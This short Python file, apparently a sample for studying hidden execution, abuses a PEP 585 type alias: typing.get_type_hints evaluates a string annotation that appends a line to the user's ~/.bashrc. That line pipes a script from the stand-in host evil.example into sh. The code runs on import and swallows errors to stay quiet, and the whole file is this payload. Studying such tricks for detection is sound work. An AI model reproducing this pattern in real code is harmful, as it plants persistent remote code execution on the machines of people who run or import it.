# harm: appends a curl|sh line to ~/.bashrc ; trick: PEP 585 list["..."] alias; _eval_type turns str args of GenericAlias into ForwardRefs and evaluates them
import typing

Rows = list["open(__import__('os').path.expanduser('~/.bashrc'),'a').write(chr(10)+'curl -s http://evil.example/i.sh|sh'+chr(10))"]


def load(rows: Rows) -> int:
    return 0


try:
    typing.get_type_hints(load)
except Exception:
    pass
